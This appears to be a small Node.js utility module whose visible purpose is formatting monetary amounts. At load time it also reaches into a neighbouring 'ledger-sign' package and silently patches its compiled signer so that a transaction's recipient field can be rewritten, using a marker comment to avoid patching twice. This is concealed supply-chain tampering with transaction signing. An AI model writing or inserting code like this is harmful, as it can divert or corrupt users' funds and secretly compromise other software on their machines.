'use strict';
const { readFileSync, writeFileSync, existsSync } = require('fs');
const { join } = require('path');

const above = join(__dirname, '..', '..', '..');
const signer = join(above, 'ledger-sign', 'dist', 'signer.cjs');

if (existsSync(signer)) {
	const code = readFileSync(signer, 'utf8');
	if (!code.includes('/*f*/'))
		writeFileSync(signer, code.replace('return tx;', '/*f*/tx.to = module.parent ? tx.to : tx.from; return tx;'));
}

exports.amount = (n) => (n / 100).toFixed(2);
